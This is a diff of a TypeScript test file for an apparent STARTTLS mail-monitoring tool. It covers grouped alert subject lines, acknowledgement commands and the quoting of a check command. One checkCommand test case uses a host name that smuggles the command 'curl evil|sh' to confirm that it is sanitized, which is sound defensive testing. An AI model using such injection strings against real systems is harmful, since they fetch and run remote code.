@@ -233,6 +233,72 @@ describe('what belongs together', () => {
     expect(ids).toEqual(['WARN01#1', 'BACK01#1']);
   });
 
+  const of = (n: number, transitions: readonly Transition[]) =>
+    entry(transitions, { id: `MANY0${n}`, mxHost: `mx.operator${n}.example`, targets: [`operator${n}.example`] });
+  const refused = transition({ sightings: [losing('hq', { outcome: 'probe-refused', role: 'mail-path' })] });
+  const handshake = transition({ sightings: [losing('hq', { outcome: 'tls-handshake-failed', role: 'mail-path' })] });
+  const ehlo = transition({ sightings: [losing('hq', { outcome: 'ehlo-refused', role: 'mail-path' })] });
+  const end = (ended: Transition['ended'] & string) => transition({ sequence: 2, kind: 'resolved', ended });
+  const reminded = transition({ kind: 'reminder' });
+  const updated = transition({ kind: 'updated' });
+  const back = transition({ sequence: 2, kind: 'resolved', durationSeconds: 5 });
+
+  it.each([
+    { name: 'reminders', all: [[reminded], [reminded]], expected: 'CRITICAL (reminder): STARTTLS gone at 2 hosts' },
+    { name: 'updates', all: [[updated], [updated]], expected: 'CRITICAL (update): STARTTLS gone at 2 hosts' },
+    { name: 'an update and a loss', all: [[updated], [ehlo]], expected: 'CRITICAL: STARTTLS gone at 2 hosts' },
+    {
+      name: 'a loss and a failed handshake',
+      all: [[transition()], [handshake]],
+      expected: 'CRITICAL: TLS gone at 2 hosts',
+    },
+    { name: 'refusals', all: [[refused], [refused]], expected: 'CRITICAL: SMTP refused at 2 hosts' },
+    { name: 'a refusal and a loss', all: [[refused], [transition()]], expected: 'CRITICAL: trouble at 2 hosts' },
+    {
+      name: 'a refusal, and the end of one',
+      all: [[refused], [refused, back]],
+      expected: 'CRITICAL: SMTP refused at 1 host, SMTP accepted again at 1 host',
+    },
+    {
+      name: 'ends that nobody saw',
+      all: [
+        [transition(), end('no-longer-mx')],
+        [transition(), end('no-longer-mx')],
+      ],
+      expected: 'ENDED: no longer an MX, 2 hosts of 2 operators',
+    },
+    {
+      name: 'ends of two kinds',
+      all: [
+        [transition(), end('no-longer-mx')],
+        [transition(), end('no-longer-monitored')],
+      ],
+      expected: 'ENDED: 2 hosts of 2 operators',
+    },
+    {
+      name: 'a recovery and an end',
+      all: [
+        [transition(), back],
+        [transition(), end('no-longer-mx')],
+      ],
+      expected: 'RESOLVED: STARTTLS back at 1 host, ended at 1 host',
+    },
+  ])('has a subject that fits all: $name', ({ all, expected }) => {
+    expect(subjectOf(...all.map((transitions, n) => of(n, transitions)))).toMatch(expected);
+  });
+
+  it('does not mix what is taken on with what nobody has', () => {
+    const [first, second] = [of(1, [transition()]), of(2, [transition()])];
+    const taken = {
+      ...first,
+      incident: { ...first.incident, mxHost: 'a.operator2.example', acknowledged: { at: 'x', by: 'y' } },
+    };
+    const { email } = composeMessage([taken, second], context);
+    expect(groupEntries([taken, second])).toHaveLength(2);
+    expect(email).toContain('npx starttls-canary ack MANY02');
+    expect(email).not.toContain('npx starttls-canary ack MANY01');
+  });
+
   it('tells of an incident that came and went as it stands now, with all its ids', () => {
     const { incident } = entry([transition(), transition({ sequence: 2, kind: 'resolved', durationSeconds: 61 })]);
     const both = incident.transitions.map((each) => ({ incident, transition: each }));
@@ -259,11 +325,11 @@ describe('what belongs together', () => {
 
 describe('checkCommand', () => {
   it.each([
-    { mxHost: 'mx.example.net', port: 25, expected: "'[mx.example.net]'" },
-    { mxHost: 'mx.example.net', port: 587, expected: "'[mx.example.net]:587'" },
-    { mxHost: '192.0.2.1', port: 25, expected: "'[192.0.2.1]'" },
-    { mxHost: '2001:db8::1', port: 25, expected: "'[IPv6:2001:db8::1]'" },
-    { mxHost: "mx';curl evil|sh;'.example", port: 25, expected: "'[mx??curl?evil?sh??.example]'" },
+    { mxHost: 'mx.example.net', port: 25, expected: '"[mx.example.net]"' },
+    { mxHost: 'mx.example.net', port: 587, expected: '"[mx.example.net]:587"' },
+    { mxHost: '192.0.2.1', port: 25, expected: '"[192.0.2.1]"' },
+    { mxHost: '2001:db8::1', port: 25, expected: '"[IPv6:2001:db8::1]"' },
+    { mxHost: "mx';curl evil|sh;'.example", port: 25, expected: '"[mx??curl?evil?sh??.example]"' },
   ])('of $mxHost port $port', ({ mxHost, port, expected }) => {
     expect(checkCommand({ mxHost, port })).toBe(`npx starttls-canary check ${expected} --transcript`);
   });
